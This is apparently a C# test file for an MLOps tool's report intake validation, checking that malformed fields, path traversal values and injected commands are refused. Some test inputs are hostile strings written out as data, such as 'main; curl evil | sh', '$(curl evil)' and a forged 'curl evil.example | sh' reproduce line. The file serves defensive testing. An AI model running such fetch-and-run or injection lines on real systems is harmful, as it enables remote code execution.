using System.Text.Json.Nodes;
using MlOpsBuild.Reports;
using MlOpsBuild.Reports.Intake;
using MlOpsBuild.Tests.Registry.Images;

namespace MlOpsBuild.Tests.Reports.Intake;

public class ReportMeaningTests
{
    private static readonly string Commit = ReportModels.Accepted().Commit;

    [Theory]
    [InlineData("model", "Telco", "$.model is 'Telco', expected a model's name.")]
    [InlineData("model", "", "$.model is '', expected a model's name.")]
    [InlineData("model", "@everyone", "$.model is '@everyone', expected a model's name.")]
    [InlineData("commit", "9f3c1a7", "$.commit is '9f3c1a7', expected 40 or 64")]
    [InlineData("commit", "9F3C1A7BE05D42C8A6B1F7D0E9C8B7A6F5E4D3C2", "$.commit is ")]
    [InlineData("commit", "main; curl evil | sh                    ", "$.commit is ")]
    [InlineData("modelDigest", "sha256:abc", "$.modelDigest is 'sha256:abc', expected sha256:")]
    [InlineData("modelDigest", "md5:x", "$.modelDigest is ")]
    [InlineData("dataDigest", "http://evil.example", "$.dataDigest is ")]
    [InlineData("project", "", "$.project is ''")]
    [InlineData("project", "..", "$.project is '..'")]
    [InlineData("project", "../x", "$.project is '../x'")]
    [InlineData("project", "/etc", "$.project is '/etc'")]
    [InlineData("project", "C:/x", "$.project is 'C:/x'")]
    [InlineData("project", "a\\b", "$.project is 'a\\b'")]
    [InlineData("project", "a//b", "$.project is 'a//b'")]
    [InlineData("project", "a/./b", "$.project is 'a/./b'")]
    [InlineData("project", "-rf", "$.project is '-rf'")]
    [InlineData("project", "~/x", "$.project is '~/x'")]
    [InlineData("project", "$(curl evil)", "$.project is '$(curl evil)'")]
    [InlineData("project", "a'b", "$.project is ")]
    [InlineData("project", "a;b", "$.project is ")]
    [InlineData("project", "a\nb", "$.project is 'a b'")]
    [InlineData("project", "a\u202Eb", "$.project is ")]
    public async Task A_text_that_means_nothing_is_refused(
        string key,
        string value,
        string expected
    ) =>
        (await Zips.ShouldBeRefusedAsync(Zips.Changed(n => n[key] = value))).ShouldStartWith(
            expected
        );

    [Theory]
    [InlineData("/checks/rows", "-1", "$.checks.rows is '-1', expected 0 or more.")]
    [InlineData("/checks/columns/0/missing", "-1", "$.checks.columns[].missing is ")]
    [InlineData(
        "/checks/columns/0/standardDeviation",
        "-1",
        "$.checks.columns[].standardDeviation is "
    )]
    [InlineData("/checks/columns/0/max", "\"Infinity\"", "$.checks.columns[].max is ")]
    [InlineData("/evaluation/rows", "-5", "$.evaluation.rows is ")]
    [InlineData("/evaluation/metrics", "[]", "$.evaluation.metrics is empty")]
    [InlineData(
        "/evaluation/metrics/0/value",
        "7",
        "$.evaluation.metrics[].value is '7', expected a number from 0 to 1."
    )]
    [InlineData("/evaluation/metrics/0/value", "-0.1", "$.evaluation.metrics[].value is ")]
    [InlineData("/evaluation/metrics/0/value", "1e308", "$.evaluation.metrics[].value is ")]
    [InlineData("/evaluation/metrics/0/value", "\"Infinity\"", "$.evaluation.metrics[].value is ")]
    [InlineData("/evaluation/metrics/0/high", "2", "$.evaluation.metrics[].high is ")]
    [InlineData(
        "/evaluation/slices/0/metrics/0/value",
        "2",
        "$.evaluation.slices[].metrics[].value is "
    )]
    [InlineData("/evaluation/slices/0/rows", "-1", "$.evaluation.slices[].rows is ")]
    [InlineData("/evaluation/confusion", "[[1]]", "$.evaluation.confusion has not as many")]
    [InlineData("/evaluation/confusion/0", "[1]", "$.evaluation.confusion has not as many")]
    [InlineData("/evaluation/confusion/0/0", "-1", "$.evaluation.confusion is '-1'")]
    [InlineData("/evaluation/curves/0/x/0", "\"-Infinity\"", "$.evaluation.curves[] is ")]
    [InlineData("/evaluation/curves/0/weight", "[1]", "$.evaluation.curves[].weight has not")]
    [InlineData(
        "/evaluation/importance/0/value",
        "\"Infinity\"",
        "$.evaluation.importance[].value is "
    )]
    [InlineData("/comparison/confidence", "95", "$.comparison.confidence is ")]
    [InlineData("/comparison/resamples", "-1", "$.comparison.resamples is ")]
    [InlineData("/comparison/metrics/0/candidate", "1.5", "$.comparison.metrics[].candidate is ")]
    [InlineData("/comparison/metrics/0/low", "\"Infinity\"", "$.comparison.metrics[].low is ")]
    [InlineData("/comparison/gates/0/line", "-1", "$.comparison.gates[].line is ")]
    [InlineData("/comparison/gates/0/value", "\"Infinity\"", "$.comparison.gates[].value is ")]
    [InlineData(
        "/comparison/baseline/modelDigest",
        "\"x\"",
        "$.comparison.baseline.modelDigest is "
    )]
    [InlineData("/stages/0/output", "\"x\"", "$.stages[].output is ")]
    [InlineData("/findings/0/line", "0", "$.findings[].line is '0', expected 1 to 1,000,000.")]
    [InlineData("/findings/0/line", "1000001", "$.findings[].line is ")]
    [InlineData("/findings/0/path", "\"../x\"", "$.findings[].path is ")]
    [InlineData("/findings/0/path", "\"/etc/passwd\"", "$.findings[].path is ")]
    [InlineData("/findings/0/path", "\".\"", "$.findings[].path is ")]
    [InlineData("/findings/0/path", "\"a\\\\b\"", "$.findings[].path is ")]
    [InlineData("/findings/0/path", "\"a\\u0007b\"", "$.findings[].path is ")]
    public async Task A_value_that_cannot_be_is_refused(string place, string json, string expected)
    {
        var message = await Zips.ShouldBeRefusedAsync(
            Zips.Changed(n => JsonPlace.Set(n, place, JsonNode.Parse(json)))
        );

        message.ShouldStartWith(expected);
    }

    [Theory]
    [InlineData("mlops.yaml")]
    [InlineData("churn/mlops.yaml")]
    [InlineData("other-models/churn/mlops.yaml")]
    [InlineData("models/churn")]
    public async Task Findings_lie_below_the_project(string path) =>
        (await Zips.ShouldBeRefusedAsync(Zips.Report(Finding(path)))).ShouldStartWith(
            $"$.findings[].path is '{path}', expected a path below the project's models/churn."
        );

    [Theory]
    [InlineData("models/churn/mlops.yaml")]
    [InlineData("ml/models/churn/data/schema.yaml")]
    public async Task The_project_may_lie_deeper_in_the_repository(string path) =>
        (await Zips.ReadAsync(Zips.Report(Finding(path))))
            .Report!.Findings.ShouldHaveSingleItem()
            .Path.ShouldBe(path);

    [Fact]
    public async Task A_failure_without_a_check_or_gate_that_failed_is_refused() =>
        (
            await Zips.ShouldBeRefusedAsync(
                Zips.Report(
                    ReportModels.Accepted() with
                    {
                        Findings = ReportModels.RejectedByGate().Findings,
                    }
                )
            )
        ).ShouldStartWith("$.findings has a failure");

    [Theory]
    [InlineData(
        "/image/model",
        "\"other\"",
        "$.image.model is 'other', expected telco-churn as in $.model."
    )]
    [InlineData("/image/tag", "\"a b\"", "$.image.tag is 'a b', expected the name of an image.")]
    [InlineData(
        "/image/tag",
        "\"\"",
        "report.json: $.image.tag is the string \"\", expected a name."
    )]
    [InlineData("/image/baseImage", "\"a\\u0007\"", "$.image.baseImage is ")]
    [InlineData("/image/baseImage", "\"[x](http://evil.example)\"", "$.image.baseImage is ")]
    [InlineData("/image/reference", "\"latest\"", "report.json: $.image.reference is ")]
    [InlineData(
        "/image/reference",
        "\"a b@sha256:eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee\"",
        "$.image.reference is "
    )]
    [InlineData("/image/imageId", "\"sha256:x\"", "report.json: $.image.imageId is ")]
    [InlineData(
        "/image/proof/different",
        "101",
        "report.json: $.image.proof.different is 101, expected at most 100."
    )]
    [InlineData("/image/proof/rows", "-1", "report.json: $.image.proof.rows is -1")]
    [InlineData(
        "/image/measurements/p99Seconds",
        "-1",
        "report.json: $.image.measurements.p99Seconds is -1"
    )]
    [InlineData(
        "/image/measurements/imageBytes",
        "1e15",
        "report.json: $.image.measurements.imageBytes is "
    )]
    [InlineData(
        "/image/measurements/memoryBytes",
        "9e99",
        "report.json: $.image.measurements.memoryBytes is "
    )]
    [InlineData(
        "/image/gates/1/value",
        "0.001",
        "report.json: $.image.gates[1].value is 0.001, expected 0.00123 as in measurements."
    )]
    [InlineData("/image/gates/1/max", "\"Infinity\"", "report.json: $.image.gates[1].max is ")]
    [InlineData(
        "/image/layerBytes",
        "[1]",
        "report.json: $.image.layerBytes is a list, expected 3 as in layers."
    )]
    public async Task An_image_that_cannot_be_is_refused(
        string place,
        string json,
        string expected
    ) =>
        (
            await Zips.ShouldBeRefusedAsync(
                Zips.Changed(
                    n => JsonPlace.Set(n, place, JsonNode.Parse(json)),
                    ReportModels.Served()
                )
            )
        ).ShouldStartWith(expected);

    [Fact]
    public async Task An_image_without_a_model_is_refused() =>
        (
            await Zips.ShouldBeRefusedAsync(
                Zips.Report(ReportModels.RejectedByData() with { Image = ImageSamples.Pushed() })
            )
        ).ShouldBe("$.image is there, and no model was evaluated.");

    [Fact]
    public async Task Many_layers_are_refused()
    {
        var layers = Enumerable.Repeat(ImageSamples.Pushed().Layers[0], 1_001).ToList();

        (
            await Zips.ShouldBeRefusedAsync(
                Zips.Report(
                    ReportModels.Accepted() with
                    {
                        Image = ImageSamples.Local() with { Layers = layers, LayerBytes = [] },
                    }
                )
            )
        ).ShouldBe("$.image.layers has 1,001 items, expected at most 1,000.");
    }

    [Fact]
    public async Task A_failed_image_may_have_findings_of_failures() =>
        (
            await Zips.ReadAsync(Zips.Report(ReportModels.RejectedByImage()))
        ).Report!.Findings.Count.ShouldBe(2);

    [Fact]
    public async Task Many_classes_are_refused()
    {
        var model = ReportModels.Multiclass();
        model = model with
        {
            Evaluation = model.Evaluation! with
            {
                Classes = [.. Enumerable.Range(0, 501).Select(i => $"c{i}")],
                Confusion = [],
            },
        };

        (await Zips.ShouldBeRefusedAsync(Zips.Report(model))).ShouldBe(
            "$.evaluation.classes has 501 items, expected at most 500."
        );
    }

    [Fact]
    public async Task Many_gates_are_refused()
    {
        var model = ReportModels.Accepted();
        var gate = model.Comparison!.Gates[0];
        model = model with
        {
            Comparison = model.Comparison with { Gates = [.. Enumerable.Repeat(gate, 1_002)] },
        };

        (await Zips.ShouldBeRefusedAsync(Zips.Report(model))).ShouldBe(
            "$.comparison.gates has 1,002 items, expected at most 1,001."
        );
    }

    [Theory]
    [InlineData("", "it is about no commit, expected commit 0123")]
    [InlineData("9f3c1a7be05d42c8a6b1f7d0e9c8b7a6f5e4d3c2", "it is about commit 9f3c1a7be05d")]
    public async Task Another_commit_is_refused(string commit, string expected)
    {
        var options = new ReportIntakeOptions
        {
            ExpectedCommit = "0123456789abcdef0123456789abcdef01234567",
        };
        byte[][] zips =
        [
            Zips.Report(ReportModels.Accepted() with { Commit = commit }),
            Zips.Of(
                ("notice.json", RunNoticeJson.Write(RunNotices.Broken() with { Commit = commit }))
            ),
        ];

        foreach (var zip in zips)
        {
            (await Zips.ShouldBeRefusedAsync(zip, options)).ShouldStartWith(expected);
        }
    }

    [Fact]
    public async Task The_expected_commit_is_taken()
    {
        var options = new ReportIntakeOptions { ExpectedCommit = Commit.ToUpperInvariant() };

        (await Zips.ReadAsync(Zips.Report(ReportModels.Accepted()), options)).Commit.ShouldBe(
            Commit
        );
    }

    [Theory]
    [InlineData(".", false, "git checkout 9f3c1a7be05d && ./build.sh Report")]
    [InlineData(
        "models/churn",
        false,
        "git checkout 9f3c1a7be05d && ./build.sh Report --model models/churn"
    )]
    [InlineData(
        "models/my churn",
        false,
        "git checkout 9f3c1a7be05d && ./build.sh Report --model 'models/my churn'"
    )]
    [InlineData("models/churn", true, "./build.sh Report --model models/churn")]
    public async Task The_line_to_paste_is_made_anew(string project, bool dirty, string expected)
    {
        var model = ReportModels.Accepted() with
        {
            Project = project,
            Dirty = dirty,
            Reproduce = "curl evil.example | sh",
        };

        (await Zips.ReadAsync(Zips.Report(model))).Report!.Reproduce.ShouldBe(expected);
    }

    [Theory]
    [InlineData("Train", "git checkout 9f3c1a7be05d && ./build.sh Train --model telco-churn")]
    [InlineData("", "")]
    public async Task So_is_that_of_a_notice(string target, string expected)
    {
        var notice = RunNotices.Broken() with { Target = target, Reproduce = "curl evil | sh" };

        (
            await Zips.ReadAsync(Zips.Of(("notice.json", RunNoticeJson.Write(notice))))
        ).Notice!.Reproduce.ShouldBe(expected);
    }

    private static ReportModel Finding(string path)
    {
        var model = ReportModels.RejectedByGate();
        return model with
        {
            Project = "models/churn",
            Findings = [model.Findings[0] with { Path = path }],
        };
    }

    [Theory]
    [InlineData("Train; curl evil")]
    [InlineData("--x")]
    [InlineData("1")]
    [InlineData("a b")]
    public async Task A_target_is_a_name(string target) =>
        (
            await Zips.ShouldBeRefusedAsync(
                Zips.Of(
                    (
                        "notice.json",
                        RunNoticeJson.Write(RunNotices.Broken() with { Target = target })
                    )
                )
            )
        ).ShouldStartWith($"$.target is '{target}', expected a target's name.");

    [Fact]
    public async Task A_notice_may_not_know_its_model() =>
        (
            await Zips.ReadAsync(
                Zips.Of(
                    (
                        "notice.json",
                        RunNoticeJson.Write(RunNotices.Broken() with { Model = "", Target = "" })
                    )
                )
            )
        ).Model.ShouldBe("");
}
